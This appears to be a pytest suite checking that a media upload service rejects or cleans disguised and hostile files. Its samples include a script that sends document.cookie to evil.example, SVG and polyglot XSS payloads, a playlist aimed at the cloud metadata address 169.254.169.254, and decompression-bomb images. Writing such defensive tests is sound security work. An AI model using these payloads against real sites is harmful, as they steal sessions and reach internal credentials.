"""Files that want something else than to be seen, sent through the whole application as an app would send them."""

from collections.abc import AsyncIterator
from typing import Any

import pytest

from backend.core.database import Database
from backend.settings import Settings
from tests.accounts.people import house
from tests.api.client import Api
from tests.api.test_media import promised, work
from tests.media.files import picture, png_claiming, saved, webp_bomb, webp_claiming

SCRIPT = b"<script>fetch('https://evil.example/'+document.cookie)</script>"


@pytest.fixture
def token(db: Database, settings: Settings, runner: Any) -> str:
    return str(runner.run(house(db, settings).sign_up("mina")).session.token)


async def sent(api: Api, token: str, data: bytes, content_type: str) -> dict[str, Any]:
    upload: dict[str, Any] = await api.do("UploadRequest", as_=token, **promised(data, content_type))
    assert (await api.http.put(upload["url"], content=data)).status_code == 201
    return upload


@pytest.mark.parametrize(
    ("data", "content_type", "code"),
    [
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "image/jpeg", "media_type_unknown"),
        (b"<!doctype html>" + SCRIPT, "image/jpeg", "media_type_unknown"),
        (b"%PDF-1.7\n" + SCRIPT, "image/png", "media_type_unknown"),
        (saved(picture(40, 30), "PNG"), "image/jpeg", "media_type_mismatch"),
        (saved(picture(40, 30), "JPEG"), "video/mp4", "media_type_mismatch"),
        (b"#EXTM3U\n#EXTINF:9,\nhttp://169.254.169.254/latest/meta-data/\n", "video/mp4", "media_type_unknown"),
        (png_claiming(65_535, 65_535), "image/png", "image_too_large"),
        (webp_claiming(16_000, 16_000), "image/webp", "image_damaged"),
        (webp_bomb(16_383, 16_383), "image/webp", "image_too_large"),
    ],
)
async def test_what_is_not_what_it_says_is_refused_for_good_and_shown_to_nobody(
    api: Api, db: Database, settings: Settings, token: str, data: bytes, content_type: str, code: str
) -> None:
    upload = await sent(api, token, data, content_type)
    assert await api.refuse("UploadFinalize", as_=token, uploadId=upload["id"]) == ("ValidationProblem", code)
    await work(db, settings)
    asset = await api.run("Asset", as_=token, id=upload["asset"]["id"])
    assert (asset["status"], asset["problem"]["code"], asset["renditions"]) == ("REJECTED", code, [])
    assert (await api.http.get(upload["url"])).status_code in {404, 405}


@pytest.mark.parametrize("size", [(1, 1), (1, 4_000), (4_000, 1)])
async def test_picture_of_one_pixel_a_side_is_a_picture(
    api: Api, db: Database, settings: Settings, token: str, size: tuple[int, int]
) -> None:
    upload = await sent(api, token, saved(picture(*size), "PNG"), "image/png")
    await api.do("UploadFinalize", as_=token, uploadId=upload["id"])
    await work(db, settings)
    asset = await api.run("Asset", as_=token, id=upload["asset"]["id"])
    assert (asset["status"], min(asset["width"], asset["height"])) == ("CLEAN", 1)
    assert {file["contentType"] for file in asset["renditions"]} == {"image/webp", "image/jpeg"}
    for file in asset["renditions"]:
        assert min(file["width"], file["height"]) == 1
        assert (await api.http.get(file["url"])).status_code == 200


@pytest.mark.parametrize("plugin", ["JPEG", "PNG", "WEBP"])
async def test_page_behind_a_picture_is_gone_from_all_that_is_served(
    api: Api, db: Database, settings: Settings, token: str, plugin: str
) -> None:
    upload = await sent(api, token, saved(picture(200, 150), plugin) + SCRIPT, f"image/{plugin.lower()}")
    await api.do("UploadFinalize", as_=token, uploadId=upload["id"])
    await work(db, settings)
    asset = await api.run("Asset", as_=token, id=upload["asset"]["id"])
    assert asset["status"] == "CLEAN"
    for file in asset["renditions"]:
        answer = await api.http.get(file["url"])
        assert b"script" not in answer.content
        assert answer.headers["content-type"] == file["contentType"]
        assert answer.headers["x-content-type-options"] == "nosniff"


async def test_endless_body_is_read_no_further_than_was_promised(api: Api, token: str) -> None:
    data = saved(picture(400, 300), "JPEG")
    upload = await api.do("UploadRequest", as_=token, **promised(data))
    pieces = 0

    async def endless() -> AsyncIterator[bytes]:
        nonlocal pieces
        while pieces < 10_000:
            pieces += 1
            yield b"\xff" * 65_536

    answer = await api.http.put(upload["url"], content=endless())
    assert (answer.status_code, answer.json()["code"]) == (422, "upload_size_mismatch")
    assert pieces <= len(data) // 65_536 + 2
    asset = await api.run("Asset", as_=token, id=upload["asset"]["id"])
    assert (asset["status"], asset["renditions"]) == ("REQUESTED", [])
    assert (await api.http.put(upload["url"], content=data)).status_code == 201
